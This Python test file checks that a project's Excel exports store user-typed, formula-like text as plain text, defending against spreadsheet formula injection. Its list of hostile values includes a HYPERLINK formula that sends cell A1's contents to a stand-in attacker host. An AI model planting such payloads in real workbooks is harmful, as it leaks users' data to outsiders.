"""Formula injection (#16.4): text somebody typed that starts like a formula comes back in every workbook
TriThuc hands out as the same text, never as a live formula."""

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from trithuc.core.spreadsheets import safe_row, workbook_bytes
from trithuc.registry.tests.factories import person
from trithuc.reporting.consolidated import AgencyLine
from trithuc.reporting.exports.consolidated import render_indicator_annex_xlsx
from trithuc.reporting.exports.report_xlsx import SHEET_TEXT, render_report_form_xlsx
from trithuc.reporting.selectors import report_form
from trithuc.reporting.services.reports import report_open
from trithuc.reporting.tests.factories import annual_period
from trithuc.reporting.tests.test_consolidated import sample_data

HOSTILE = ['=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào")', "+2+3", "-2+3", "@SUM(A1)", "\t=1"]


def formulas(content: bytes) -> list[str]:
    """Every <f> element in every sheet of the .xlsx: a cell Excel would compute."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def text_cells(content: bytes) -> dict[str, tuple[str, bool]]:
    """Each string cell's value with whether it carries the quote prefix that keeps it text when edited."""
    found = {}
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found[cell.value] = (cell.data_type, cell.quotePrefix)
    return found


@pytest.mark.parametrize("write_only", [True, False])
def test_formula_like_text_is_written_as_text_and_plain_values_are_untouched(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("x") if write_only else workbook.active
    for value in HOSTILE:
        sheet.append(safe_row(sheet, [value, 7, "thường"]))
    content = workbook_bytes(workbook)
    assert formulas(content) == []
    cells = text_cells(content)
    assert all(cells[value] == ("s", True) for value in HOSTILE if value.strip() == value)
    assert cells["thường"] == ("s", False)
    values = [row[1].value for row in load_workbook(io.BytesIO(content)).worksheets[0].iter_rows()]
    assert values == [7] * len(HOSTILE)  # the numbers after a text cell stay numbers


def test_a_plain_openpyxl_workbook_would_have_run_the_formula():
    """The check above can fail: without the guard openpyxl stores "=..." as a formula."""
    workbook = Workbook()
    workbook.active.append([HOSTILE[0]])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert formulas(buffer.getvalue()) != []


def test_registry_export_writes_a_hostile_position_as_text(client, coordinator, agencies):
    person("Ka Sô Hen", position=HOSTILE[0], workplace_agency=agencies["so-noi-vu"])
    client.force_login(coordinator)
    content = client.get("/tri-thuc/xuat-excel/").content
    assert formulas(content) == [] and text_cells(content)[HOSTILE[0]] == ("s", True)


def test_report_workbook_writes_hostile_difficulties_as_text(seed_plan, agencies, reporter_a):
    report = report_open(actor=reporter_a, period=annual_period(2025), agency=agencies["so-noi-vu"])
    report.difficulties = "=2+3"
    content = render_report_form_xlsx(report_form(report))
    assert formulas(content) == []
    assert load_workbook(io.BytesIO(content))[SHEET_TEXT]["B1"].value == "=2+3"


def test_consolidated_annex_writes_a_hostile_agency_name_as_text():
    content = render_indicator_annex_xlsx(sample_data(agencies=(AgencyLine("=1+1", "missing"),)))
    assert formulas(content) == [] and text_cells(content)["=1+1"] == ("s", True)
